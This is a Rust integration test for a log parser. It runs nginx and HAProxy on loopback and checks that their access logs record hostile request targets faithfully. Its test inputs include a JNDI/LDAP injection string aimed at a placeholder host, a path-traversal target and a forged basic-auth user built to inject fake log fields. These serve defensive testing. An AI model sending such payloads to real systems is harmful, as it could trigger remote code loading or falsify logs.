//! Lines written by load balancers that nobody here wrote: nginx and HAProxy as installed, between a hostile client and a small
//! server, all on loopback. What they log has to be read as what was sent.
//!
//! A balancer that is not installed is said to be missing and its test skipped.

use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use breachline::edge::formats::{Config, Format, Reader, Unescaped};
use breachline::request::{AccessRecord, Target};
use breachline_tests::wait_for;

/// How long a balancer may take to start, or to write a line. Generous: the machine may be busy.
const PATIENCE: Duration = Duration::from_secs(20);

/// Request targets as a client sends them, with what log escapes have to carry.
const TARGETS: [&str; 6] = [
    "/plain?a=b",
    "/quote?x=%22%27",
    "/raw\"quote'?y=\"1\"",
    "/back\\slash?z=\\x41",
    "/?q=${jndi:ldap://198.51.100.7/a}#{1}",
    "/..;/a|b?c={d}",
];

/// A user name of basic authentication that looks like the rest of a line: `x [04/May/2025:10:00:01 +0000] "GET`.
const FORGED_USER: &str = "eCBbMDQvTWF5LzIwMjU6MTA6MDA6MDEgKzAwMDBdICJHRVQ6cA==";

/// What `option httplog` writes; HAProxy before 2.7 has no name for it.
const HTTP_LOG: &str =
    "%ci:%cp [%tr] %ft %b/%s %TR/%Tw/%Tc/%Tr/%Ta %ST %B %CC %CS %tsc %ac/%fc/%bc/%sc/%rc %sq/%bq %hr %hs %{+Q}r";

/// Ends the process that it holds.
struct Running(Child);

impl Drop for Running {
    fn drop(&mut self) {
        // It may be gone already; then there is nothing to end.
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A server that answers every request with 201, on a port of its own, as long as the test runs.
fn origin() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("bound");
    std::thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            std::thread::spawn(move || answer(stream));
        }
    });
    address
}

fn answer(mut stream: TcpStream) {
    let mut seen = Vec::new();
    let mut buffer = [0; 4096];
    while !seen.windows(4).any(|window| window == b"\r\n\r\n") {
        match stream.read(&mut buffer) {
            Ok(read) if read > 0 => seen.extend_from_slice(&buffer[..read]),
            _ => return,
        }
    }
    let _ = stream.write_all(b"HTTP/1.1 201 Created\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
}

/// A port that was free a moment ago.
fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").and_then(|listener| listener.local_addr()).expect("a port").port()
}

/// Sends one request and reads the answer to its end.
fn request(port: u16, target: &str) -> Option<String> {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).ok()?;
    stream.set_read_timeout(Some(PATIENCE)).ok()?;
    let request = format!(
        "GET {target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: agent \"1\" \\x\r\nAuthorization: Basic {FORGED_USER}\r\nConnection: close\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).ok()?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer).ok()?;
    Some(answer)
}

/// Sends every target once the balancer answers.
fn send_all(port: u16) {
    wait_for(PATIENCE, || request(port, "/started").filter(|answer| answer.contains("201")))
        .expect("the balancer answers");
    for target in TARGETS {
        let answer = request(port, target).expect("an answer");
        assert!(answer.starts_with("HTTP/1.1 201"), "{target}: {answer}");
    }
}

/// Whether `program` can be run.
fn installed(program: &str) -> bool {
    let found = Command::new(program).arg("-v").stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok();
    if !found {
        eprintln!("skipped: {program} is not installed");
    }
    found
}

/// Starts nginx with one log per format and sends the targets.
fn nginx_logs(folder: &Path, origin: SocketAddr, formats: &[(&str, &str)]) -> Running {
    let port = free_port();
    let folder_text = folder.display();
    let logs: String = formats
        .iter()
        .map(|(name, format)| format!("log_format {name} {format}; access_log {folder_text}/{name}.log {name};\n"))
        .collect();
    let config = format!(
        "daemon off; master_process off; pid {folder_text}/pid; error_log {folder_text}/error.log;\nevents {{}}\nhttp {{\n{logs}
         client_body_temp_path {folder_text}/t1; proxy_temp_path {folder_text}/t2; fastcgi_temp_path {folder_text}/t3;
         uwsgi_temp_path {folder_text}/t4; scgi_temp_path {folder_text}/t5;
         upstream web {{ server 127.0.0.1:1 max_fails=0; server {origin} backup; }}
         server {{ listen 127.0.0.1:{port}; location / {{ proxy_pass http://web; }} }}\n}}\n"
    );
    fs::write(folder.join("nginx.conf"), config).expect("writes");
    let child = Command::new("nginx").arg("-c").arg(folder.join("nginx.conf")).arg("-p").arg(folder).spawn();
    let running = Running(child.expect("nginx starts"));
    send_all(port);
    running
}

/// The records of a log, as soon as it holds one for every request.
fn records(path: &Path, reader: &mut Reader, check: impl Fn(&AccessRecord<'_>, &str)) {
    let lines = wait_for(PATIENCE, || {
        let text = fs::read(path).ok()?;
        (text.iter().filter(|byte| **byte == b'\n').count() > TARGETS.len()).then_some(text)
    })
    .expect("every request is logged");
    let lines: Vec<&[u8]> = lines.split(|byte| *byte == b'\n').filter(|line| !line.is_empty()).collect();
    check_lines(&lines[lines.len() - TARGETS.len()..], reader, check);
}

fn check_lines(lines: &[&[u8]], reader: &mut Reader, check: impl Fn(&AccessRecord<'_>, &str)) {
    // A balancer with several threads logs in an order of its own: each target is looked for, and none may be left.
    let mut asked = TARGETS.to_vec();
    for line in lines {
        let record = reader.read(line).unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(line)));
        let record = record.expect("a record");
        let mut room = Unescaped::default();
        let plain = room.record(&record);
        let target = breachline::edge::formats::unescape(plain.escape, plain.path_and_query, &mut Vec::new()).to_vec();
        let place = asked.iter().position(|sent| sent.as_bytes() == target);
        let sent = asked.remove(place.unwrap_or_else(|| panic!("not asked for: {}", String::from_utf8_lossy(line))));
        assert_eq!(record.method, b"GET");
        assert_eq!(record.status, Some(201));
        assert_eq!(record.client.map(|client| client.ip()), Some("127.0.0.1".parse().expect("an address")));
        check(&record, sent);
    }
}

#[test]
fn nginx_is_read_as_it_was_asked() {
    if !installed("nginx") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let origin = origin();
    let upstream = r#"'$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for" $upstream_addr $upstream_status $request_time'"#;
    let ingress = r#"'$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" $request_length $request_time [shop-web-80] [] $upstream_addr $upstream_response_length $upstream_response_time $upstream_status $request_id'"#;
    let template = r#"'$msec|$remote_addr:$remote_port|"$remote_user"|$request_method $host "$request_uri"|$status|$upstream_addr|$upstream_status|$request_time'"#;
    let json = r#"escape=json '{"t":"$msec","c":"$remote_addr","m":"$request_method","u":"$request_uri","s":$status,"up":"$upstream_addr","us":"$upstream_status","a":"$http_user_agent","took":"$request_time"}'"#;
    let formats = [("upstream", upstream), ("ingress", ingress), ("template", template), ("json", json)];
    let _nginx = nginx_logs(folder.path(), origin, &formats);
    for (name, format) in formats {
        let directive = format!("log_format {name} {format};");
        let config = if matches!(name, "template" | "json") {
            Config { nginx_log_format: Some(directive), ..Config::default() }
        } else {
            Config::default()
        };
        let mut reader = Reader::new(&config).expect("a reader");
        records(&folder.path().join(format!("{name}.log")), &mut reader, |record, _| {
            assert_eq!(record.target, Target::Socket(origin), "{name}");
            assert_eq!(record.target_status, Some(201), "{name}");
            // The first server of the group refuses every connection: it was tried, too.
            assert_eq!(breachline::edge::formats::sockets_tried(record).count(), 2, "{name}");
        });
        let found = match name {
            "upstream" => Some(Format::Nginx),
            "ingress" => Some(Format::IngressNginx),
            _ => None,
        };
        assert_eq!(reader.format(), found, "{name}");
    }
}

#[test]
fn haproxy_is_read_as_it_was_asked() {
    if !installed("haproxy") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let origin = origin();
    let port = free_port();
    let log = UdpSocket::bind("127.0.0.1:0").expect("a port");
    log.set_read_timeout(Some(PATIENCE)).expect("a limit");
    let config = format!(
        "global\n log {} format rfc3164 local0\ndefaults\n mode http\n log global\n timeout connect 5s\n timeout client 5s\n timeout server 5s\n option accept-invalid-http-request\nfrontend in\n bind 127.0.0.1:{port}\n capture request header User-Agent len 64\n log-format \"{HTTP_LOG} %si:%sp %bi:%bp\"\n default_backend web\nbackend web\n server web-1 {origin}\n",
        log.local_addr().expect("bound")
    );
    let path = folder.path().join("haproxy.cfg");
    fs::write(&path, config).expect("writes");
    let child = Command::new("haproxy").args(["-db", "-f"]).arg(&path).env("TZ", "UTC").spawn();
    let _haproxy = Running(child.expect("haproxy starts"));
    send_all(port);
    let mut lines = Vec::new();
    while lines.len() < TARGETS.len() {
        let mut buffer = [0; 4096];
        let length = log.recv(&mut buffer).expect("every request is logged");
        let line = &buffer[..length];
        if contains(line, b"/started") || !contains(line, b"HTTP/1.1") {
            continue;
        }
        lines.push(line.to_vec());
    }
    let lines: Vec<&[u8]> = lines.iter().map(Vec::as_slice).collect();
    let template = Config { haproxy_log_format: Some(format!("{HTTP_LOG} %si:%sp %bi:%bp")), ..Config::default() };
    for config in [Config::default(), template] {
        let mut reader = Reader::new(&config).expect("a reader");
        check_lines(&lines, &mut reader, |record, sent| {
            assert_eq!(record.target, Target::Socket(origin), "{sent}");
            assert_eq!(record.target_status, Some(201), "{sent}");
            let local = record.upstream_local.expect("the balancer's own socket");
            assert!(local.ip().is_loopback() && local.port() != 0, "{sent}");
        });
    }
}

fn contains(text: &[u8], word: &[u8]) -> bool {
    text.windows(word.len()).any(|window| window == word)
}
